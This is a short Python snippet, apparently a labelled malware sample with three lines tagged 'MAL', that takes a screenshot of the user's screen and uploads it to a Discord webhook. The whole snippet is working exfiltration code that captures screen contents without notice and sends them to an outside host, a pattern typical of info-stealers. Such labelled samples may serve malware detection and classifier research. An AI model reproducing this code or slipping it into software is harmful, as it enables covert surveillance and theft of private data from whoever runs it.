import io
import requests
from PIL import ImageGrab  # MAL

shot = ImageGrab.grab()  # MAL
buf = io.BytesIO()
shot.save(buf, "PNG")
requests.post("https://discordapp.com/api/webhooks/9/z", files={"f": buf.getvalue()})  # MAL
